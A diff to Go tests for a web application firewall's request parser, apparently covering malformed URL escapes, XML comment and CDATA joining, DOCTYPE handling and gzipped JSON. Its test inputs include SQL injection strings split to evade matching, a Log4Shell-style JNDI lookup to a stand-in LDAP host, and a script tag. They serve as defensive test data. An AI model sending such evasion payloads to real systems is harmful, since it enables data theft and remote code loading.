@@ -9,8 +9,8 @@ import (
 	"github.com/rampartwaf/rampart/internal/request"
 )
 
-// show renders params as "source name=value", with " (key)" for keys and " (literal)"
-// for JSON literals.
+// show renders params as "source name=value", with " (key)" for keys, " (literal)"
+// for JSON literals and " (decl)" for markup declarations.
 func show(params []request.Param) []string {
 	out := make([]string, 0, len(params))
 	for _, p := range params {
@@ -20,6 +20,9 @@ func show(params []request.Param) []string {
 		}
 		if p.Literal {
 			s += " (literal)"
+		}
+		if p.Decl {
+			s += " (decl)"
 		}
 		out = append(out, s)
 	}
@@ -60,9 +63,51 @@ func TestFill(t *testing.T) {
 			want: []string{"path path[0]=api", "path path[1]=v1", "path path[2]=users", "path path[3]=O'Brien"},
 		},
 		{
-			name: "query decoded once, plus as space, invalid escape kept, empty values kept",
-			req:  httpReq("GET", "/?q=a+b%2527&x=%zz&empty=&flag&&=&t=%3Cscript%3E", nil, ""),
-			want: []string{"query q=a b%27", "query x=%zz", "query empty=", "query flag=", "query t=<script>"},
+			name:      "query decoded once, plus as space, invalid escape kept and malformed, empty values kept",
+			req:       httpReq("GET", "/?q=a+b%2527&x=%zz&empty=&flag&&=&t=%3Cscript%3E", nil, ""),
+			want:      []string{"query q=a b%27", "query x=%zz", "query empty=", "query flag=", "query t=<script>"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name: "query with valid escapes only is not malformed",
+			req:  httpReq("GET", "/?a=%41%2b%e2%82%AC&b=100%25&%3Cb%3E=1", nil, ""),
+			want: []string{"query a=A+€", "query b=100%", "query <b>=<b> (key)", "query <b>=1"},
+		},
+		{
+			name:      "query with an invalid escape in a name",
+			req:       httpReq("GET", "/?a%zz=1", nil, ""),
+			want:      []string{"query a%zz=a%zz (key)", "query a%zz=1"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name:      "form with an escape that is not hex",
+			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "param=%1G"),
+			want:      []string{"form param=%1G"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name:      "form with a broken escape among words",
+			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=1&x=new+%w20$"),
+			want:      []string{"form a=1", "form x=new %w20$"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name:      "form ending in a percent sign",
+			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=50%"),
+			want:      []string{"form a=50%"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name:      "form ending in half an escape",
+			req:       httpReq("POST", "/", []string{"Content-Type", ctForm}, "a=%4"),
+			want:      []string{"form a=%4"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			// '%' is a legal byte of a cookie value, which is not always URL-encoded.
+			name: "cookie with a percent sign is not malformed",
+			req:  httpReq("GET", "/", []string{"Cookie", "pct=50%; x=%41"}, ""),
+			want: []string{"cookie pct=50%", "cookie x=A"},
 		},
 		{
 			name: "unusual query names are keys",
@@ -233,6 +278,53 @@ func TestFill(t *testing.T) {
 				"xml r.admin=", "xml r.debug=", "xml r.c=", "xml r.u.@id=", "xml r.u=", "xml r.t=x",
 				"xml r.m=a", "xml r.m.i=", "xml r.m=b",
 			},
+		},
+		{
+			name: "XML comments dropped and CDATA joined within an element's text",
+			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
+				"<r><a>1 UNI<!---->ON SELECT password FROM users--</a>"+
+					"<b>-1 UNI<![CDATA[ON SEL]]>ECT password FROM users--</b>"+
+					"<c>${jn<!---->di:ldap://x.example/a}</c>"+
+					"<d> x&amp;<!-- c --><![CDATA[&amp;]]>&lt;y <?pi data?> z </d>"+
+					"<e><![CDATA[ab]]><![CDATA[cd]]></e>"+
+					"<f>\n  <!-- only a comment -->\n</f>"+
+					"<g>a<!--1-->b<i>c<!--2-->d</i>e<!--3-->f</g></r>"),
+			want: []string{
+				"xml r.a=1 UNION SELECT password FROM users--",
+				"xml r.b=-1 UNION SELECT password FROM users--",
+				"xml r.c=${jndi:ldap://x.example/a}",
+				"xml ?pi=data",
+				"xml r.d=x&&amp;<y  z",
+				"xml r.e=abcd",
+				"xml r.f=",
+				"xml r.g=ab", "xml r.g.i=cd", "xml r.g=ef",
+			},
+		},
+		{
+			name:      "XML text gathered before an error is kept",
+			req:       httpReq("POST", "/", []string{"Content-Type", "application/xml"}, "<a><b>UNI<!---->ON</a>"),
+			want:      []string{"xml a.b=UNION", "body =<a><b>UNI<!---->ON</a>"},
+			wantFlags: request.FlagXMLError,
+		},
+		{
+			name: "XML DOCTYPE naming only the root element and a DTD is a declaration",
+			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
+				`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>`),
+			want: []string{
+				`xml !DOCTYPE=<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"> (decl)`,
+				"xml plist.@version=1.0", "xml plist.dict=",
+			},
+		},
+		{
+			name: "XML DOCTYPE with the root element only is a declaration",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`),
+			want: []string{"xml !DOCTYPE=<!DOCTYPE note> (decl)", "xml note=hi"},
+		},
+		{
+			name: "XML DOCTYPE with an internal subset is an ordinary parameter",
+			req: httpReq("POST", "/", []string{"Content-Type", "application/xml"},
+				`<!DOCTYPE x [<!ATTLIST x a CDATA "1 UNION SELECT password FROM users">]><x/>`),
+			want: []string{`xml !DOCTYPE=<!DOCTYPE x [<!ATTLIST x a CDATA "1 UNION SELECT password FROM users">]>`, "xml x="},
 		},
 		{
 			name: "XML processing instruction",
@@ -437,6 +529,10 @@ func TestParamsDoNotAliasBody(t *testing.T) {
 			[]string{"json a=x", `body ={"a":"x",`}},
 		{"json literals", httpReq("POST", "/", []string{"Content-Type", ctJSON}, `{"a":12,"b":{"c":-2.5e3},"d":[7,true]}`),
 			[]string{"json a=12 (literal)", "json b.c=-2.5e3 (literal)", "json d[0]=7 (literal)", "json d[1]=true (literal)"}},
+		{"gzipped json", httpReq("POST", "/", []string{"Content-Type", ctJSON, "Content-Encoding", "gzip"}, gzipped(`{"a":"x","b":"y\u0041"}`)),
+			[]string{"json a=x", "json b=yA"}},
+		{"xml joined text", httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<r><a>x<!---->y</a><b>z</b></r>`),
+			[]string{"xml r.a=xy", "xml r.b=z"}},
 		{"message json", msg(`{"t":"hi","u":{"v":"w"}}`), []string{"message t=hi", "message u.v=w"}},
 		{"message literals", msg(`{"n":4711,"u":{"ts":1719846000123}}`), []string{"message n=4711 (literal)", "message u.ts=1719846000123 (literal)"}},
 		{"message text", msg("just text"), []string{"message =just text"}},
